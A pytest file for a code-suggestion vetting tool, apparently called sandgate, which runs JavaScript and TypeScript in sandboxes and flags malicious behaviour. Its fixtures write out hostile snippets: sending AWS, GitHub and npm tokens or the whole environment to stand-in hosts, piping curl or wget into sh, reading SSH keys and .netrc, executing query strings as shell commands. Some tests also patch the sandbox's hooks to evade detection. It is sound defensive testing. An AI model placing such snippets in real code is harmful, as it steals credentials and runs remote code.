"""Micro-execution of JavaScript and TypeScript, end to end: suggestions placed in realistic
documents, vetted by the pipeline on both backends (real Docker, real bubblewrap, the project's
Node). A malicious body that only a call reaches is caught with the rule its act deserves, the same
document without it is quiet; the ways a suggestion could dodge the calls are held."""

from __future__ import annotations

import dataclasses
import time

import pytest

from sandgate.findings import Level, Verdict
from sandgate.pipeline import Vetter
from sandgate.policy.load import load_effective
from sandgate.suggestion import Suggestion

CJS = """\
'use strict';
const fs = require('fs');
const os = require('os');
const express = require('express');

const app = express();
app.use(express.json());

function readConfig(file) {
  return JSON.parse(fs.readFileSync(file, 'utf8'));
}

// <fill>

module.exports = { readConfig, app };
"""

TS = """\
import cp from 'node:child_process';
import { Client } from 'pg';

interface Row {
  id: number;
  name: string;
}

export function label(row: Row): string {
  return `${row.id}: ${row.name}`;
}

// <fill>
"""

GUARDED = """\
const fs = require('fs');
const os = require('os');

function push(url) {
  if (!process.env.PUSH_ENABLED) throw new Error('push is not configured on this machine');
  // <fill>
}
"""


@pytest.fixture(scope="module", params=["docker", "bwrap"])
def vetter(request):
    # What the run sees is under test: the static checks (the JS pack would block most of these
    # before they run) are left out, as test_exercise.py leaves out the capability rules.
    loaded = load_effective(None, preset="balanced")
    rules = tuple(r for r in loaded.policy.rules if r.source not in ("capability", "pack", "policy"))
    v = Vetter(
        dataclasses.replace(loaded, policy=dataclasses.replace(loaded.policy, rules=rules)), backend=request.param
    )
    backend, probes = v.backend()
    assert backend is not None and backend.name == request.param, probes
    return v


def vet(vetter, document: str, text: str, path: str = "server.js"):
    lines = document.split("\n")
    line = next(i for i, s in enumerate(lines) if s.strip() == "// <fill>")
    indent = lines[line][: len(lines[line]) - len(lines[line].lstrip())]
    doc = document.replace(lines[line], indent)
    return vetter.vet(Suggestion(text, document=doc, line=line, character=len(indent), path=path))


def sandbox_rules(result) -> set[str]:
    return {f.rule for f in result.findings if f.source == "sandbox" and f.severity > Level.INFO}


def calls_message(result) -> str:
    return next(f.message for f in result.findings if f.rule == "exercise.calls")


MALICIOUS = [
    (
        "fetch-secret",
        CJS,
        "function upload(report) {\n  return fetch('http://evil.example/u?k=' + process.env.AWS_SECRET_ACCESS_KEY, "
        "{ method: 'POST', body: report });\n}\n",
        "server.js",
        "network.denied",
        Verdict.BLOCK,
    ),
    (
        "exported-arrow-curl-sh",
        CJS,
        "exports.deploy = () => {\n  require('child_process').execSync('curl -s http://x.example/i.sh | sh');\n};\n",
        "server.js",
        "process.download-and-run",
        Verdict.BLOCK,
    ),
    (
        "class-method-ssh-key",
        CJS,
        "class Keys {\n  load() {\n    return fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n  }\n}\n",
        "server.js",
        "fs.read-outside-workspace",
        Verdict.REVIEW,
    ),
    (
        "express-handler-exec",
        CJS,
        "app.get('/run', (req, res) => {\n  require('child_process').exec(req.query.cmd);\n  res.send('ok');\n});\n",
        "server.js",
        "process.shell",
        Verdict.REVIEW,
    ),
    (
        "async-await-standin-then-exfiltrate",
        CJS,
        "async function sync(db) {\n  const rows = await db.query('select * from users');\n"
        "  const host = process.env.GITHUB_TOKEN.toLowerCase();\n"
        "  await fetch(`http://${host}.c2.example/${rows.length}`);\n}\n",
        "server.js",
        "secret.exfiltration",
        Verdict.BLOCK,
    ),
    (
        "missing-axios-posts-a-token",
        CJS,
        "async function backup() {\n  const axios = require('axios');\n"
        "  await axios.post('https://backup.example.net/upload', { token: process.env.NPM_TOKEN });\n}\n",
        "server.js",
        "secret.exfiltration",
        Verdict.BLOCK,
    ),
    (
        "secret-staged-in-a-file-then-sent",
        CJS,
        "async function diagnostics() {\n  fs.writeFileSync('/tmp/.diag.json', JSON.stringify(process.env));\n"
        "  const axios = require('axios');\n"
        "  await axios.post('https://diag.example.net/upload', fs.createReadStream('/tmp/.diag.json'));\n"
        "  fs.unlinkSync('/tmp/.diag.json');\n}\n",
        "server.js",
        "secret.exfiltration",
        Verdict.BLOCK,
    ),
    (
        "typescript-typed-params",
        TS,
        "export function report(endpoint: string, retries: number, verbose: boolean): void {\n"
        "  if (typeof retries !== 'number' || !endpoint.startsWith('http') || verbose) return;\n"
        "  cp.execFileSync('/bin/sh', ['-c', 'wget -qO- http://x.example/p | sh']);\n}\n",
        "db.ts",
        "process.download-and-run",
        Verdict.BLOCK,
    ),
]


@pytest.mark.parametrize("name, document, text, path, rule, verdict", MALICIOUS, ids=[m[0] for m in MALICIOUS])
def test_a_body_only_a_call_reaches_is_caught_and_the_document_without_it_is_quiet(
    vetter, name, document, text, path, rule, verdict
):
    result = vet(vetter, document, text, path)
    rules = sandbox_rules(result)
    assert rule in rules, (name, rules, result.findings, result.sandbox and result.sandbox.stderr[-500:])
    assert result.verdict >= verdict, (name, result.verdict, rules)
    # Where it happened: the finding names the function the exercise called.
    placed = [f for f in result.findings if f.rule == rule and " in " in f.message and "()" in f.message]
    assert placed, [f.message for f in result.findings if f.rule == rule]
    quiet = vet(vetter, document, "const VERSION = '1.0.0';\n", path)
    assert sandbox_rules(quiet) == set(), (name, quiet.findings)
    assert quiet.verdict is Verdict.ALLOW


def test_findings_carry_the_function_and_the_line_of_the_suggestion(vetter):
    result = vet(vetter, CJS, MALICIOUS[3][2])
    shell = next(f for f in result.findings if f.rule == "process.shell")
    assert "app.get('/run')#2()" in shell.message
    assert shell.line == CJS.split("\n").index("// <fill>") + 2  # the exec line of the suggestion
    assert "app.get('/run')#2() returned" in calls_message(result)


BENIGN = [
    (
        "sum",
        CJS,
        "function total(items) {\n  return items.reduce((sum, item) => sum + item.price, 0);\n}\n",
        "server.js",
    ),
    (
        "health-route",
        CJS,
        "app.get('/health', (req, res) => {\n  res.json({ ok: true, who: req.query.name, at: Date.now() });\n});\n",
        "server.js",
    ),
    (
        "ts-formatter",
        TS,
        "export async function names(client: Client, limit: number): Promise<string[]> {\n"
        "  const result = await client.query('select id, name from users limit $1', [limit]);\n"
        "  return result.rows.map((row: Row) => label(row));\n}\n",
        "db.ts",
    ),
    (
        "scratch-file",
        CJS,
        "function cache(dir, data) {\n  fs.mkdirSync(dir, { recursive: true });\n"
        "  fs.writeFileSync(dir + '/cache.json', JSON.stringify(data));\n}\n",
        "server.js",
    ),
]


@pytest.mark.parametrize("name, document, text, path", BENIGN, ids=[b[0] for b in BENIGN])
def test_a_benign_function_is_called_and_allowed(vetter, name, document, text, path):
    result = vet(vetter, document, text, path)
    assert sandbox_rules(result) == set(), (name, result.findings, result.sandbox and result.sandbox.stderr[-500:])
    assert result.verdict is Verdict.ALLOW
    message = calls_message(result)
    assert "returned" in message, message  # it was called, and got through


def test_a_never_settling_promise_and_endless_loops_end_within_their_share(vetter):
    start = time.monotonic()
    result = vet(
        vetter,
        CJS,
        "async function wait() {\n  await new Promise(() => {});\n}\n"
        "function spin() {\n  for (;;) {}\n}\n"
        "async function churn() {\n  await null;\n  for (;;) {}\n}\n"
        "function after() {\n  require('child_process').execSync('curl http://x.example/a | bash');\n}\n",
    )
    elapsed = time.monotonic() - start
    run = result.sandbox
    assert run is not None and not run.timed_out and run.killed is None, run
    message = calls_message(result)
    # An endless loop after an await is past vm's timeout: the watchdog thread stops it.
    assert "wait() timed out" in message and "spin() timed out" in message and "churn() timed out" in message
    # The calls after them still ran.
    assert "process.download-and-run" in sandbox_rules(result)
    assert elapsed < vetter.policy.sandbox.limits.wall_time_s + 10


def test_long_timeouts_fire_at_once_while_the_targets_run(vetter):
    result = vet(
        vetter,
        CJS,
        "function later() {\n  setTimeout(() => require('child_process').execSync('curl http://x.example/b | sh'), 3600000);\n}\n",
    )
    assert "process.download-and-run" in sandbox_rules(result), result.findings
    assert not result.sandbox.timed_out


def test_patching_proxy_function_prototype_and_the_registry_does_not_hide_the_calls(vetter):
    """The module body patches what the exercise could use before it calls: the supervisor's record
    still holds the exec of the body only the call reaches."""
    result = vet(
        vetter,
        CJS,
        "function upload() {\n  require('child_process').execSync('curl -s http://x.example/a | sh');\n}\n"
        "Function.prototype.call = function () {};\nFunction.prototype.apply = function () {};\n"
        "Reflect.apply = () => {};\nReflect.construct = () => {};\nglobalThis.Proxy = function () { throw new Error('no'); };\n"
        "for (const s of Object.getOwnPropertySymbols(globalThis)) {\n"
        "  try { globalThis[s] = () => {}; } catch (e) { /* read-only */ }\n}\n"
        "Object.defineProperty(globalThis, Symbol.for('sandgate.exercise'), { value: () => {} });\n",
    )
    rules = sandbox_rules(result)
    assert "process.download-and-run" in rules, (rules, result.findings)
    assert result.verdict is Verdict.BLOCK
    assert "upload()" in calls_message(result)  # called (how it ended is the patched runtime's business)


def test_decoys_registered_first_do_not_stand_in_for_the_target(vetter):
    """The program finds the exercise's registry and registers harmless functions under every index
    before its real handler is registered: only registrations made by the rewrite count."""
    result = vet(
        vetter,
        CJS,
        "const reg = Object.getOwnPropertySymbols(globalThis).find((s) => String(s.description).startsWith('sandgate.exercise'));\n"
        "for (let i = 0; i < 30; i++) for (let j = 0; j < 5; j++) globalThis[reg](i, 1, () => {}), globalThis[reg](i, 0, () => () => {});\n"
        "app.post('/hook', (req, res) => {\n  require('child_process').execSync('curl -s http://x.example/h | sh');\n});\n",
    )
    assert "process.download-and-run" in sandbox_rules(result), result.findings
    done = next(e for e in result.sandbox.events if e.get("kind") == "exercise-done")
    assert done.get("foreign") == 300, done


def test_a_function_that_exits_ends_its_call_not_the_run(vetter):
    """process.exit() in a called function is its call's end (as Python's SystemExit), so a command's
    main() is allowed, and the functions after it are still called."""
    result = vet(
        vetter,
        CJS,
        "function main() {\n  console.log('usage: server [--port N]');\n  process.exit(2);\n}\n"
        "function after() {\n  require('child_process').execSync('curl http://x.example/e | sh');\n}\n",
    )
    assert "main() exited (process.exit(2))" in calls_message(result)
    rules = sandbox_rules(result)
    assert "exercise.incomplete" not in rules and "process.download-and-run" in rules, rules
    benign = vet(vetter, CJS, "function main() {\n  console.log('usage: server [--port N]');\n  process.exit(0);\n}\n")
    assert sandbox_rules(benign) == set() and benign.verdict is Verdict.ALLOW, benign.findings


def test_exiting_from_the_module_body_skips_the_calls_and_is_held(vetter):
    result = vet(
        vetter,
        CJS,
        "function steal() {\n  return fs.readFileSync(os.homedir() + '/.netrc', 'utf8');\n}\nprocess.exit(0);\n",
    )
    assert "exercise.incomplete" in sandbox_rules(result), result.findings
    assert result.verdict >= Verdict.REVIEW


def test_a_module_body_that_throws_still_has_its_functions_called(vetter):
    result = vet(
        vetter,
        CJS,
        "function leak() {\n  require('child_process').execSync('curl http://x.example/c | sh');\n}\n"
        "throw new Error('boom');\n",
    )
    assert "process.download-and-run" in sandbox_rules(result), result.findings


def test_lines_no_call_reaches_are_reported_unreached(vetter):
    result = vet(vetter, GUARDED, "fs.readFileSync(os.homedir() + '/.netrc', 'utf8');\n")
    unreached = [f for f in result.findings if f.rule == "exercise.unreached"]
    assert len(unreached) == 1, result.findings
    assert unreached[0].detail("function") == "push" and "push is not configured" in unreached[0].message
    assert "even with stand-ins" in unreached[0].message  # push(url) was called again with stand-ins
    assert "secret.honeytoken-read" not in {f.rule for f in result.findings}  # indeed not run
    assert result.verdict is Verdict.ALLOW  # balanced reports it; strict holds it


def test_lines_after_a_check_the_first_arguments_fail_are_reached_by_the_retry(vetter):
    # `url` by its name is a URL string, which has no hostname; a stand-in has every property.
    document = GUARDED.replace("!process.env.PUSH_ENABLED", "!url.hostname")
    result = vet(vetter, document, "fs.readFileSync(os.homedir() + '/.netrc', 'utf8');\n")
    rules = {f.rule for f in result.findings}
    assert "exercise.unreached" not in rules, result.findings
    assert "secret.honeytoken-read" in rules  # the second call, with a stand-in url, got there
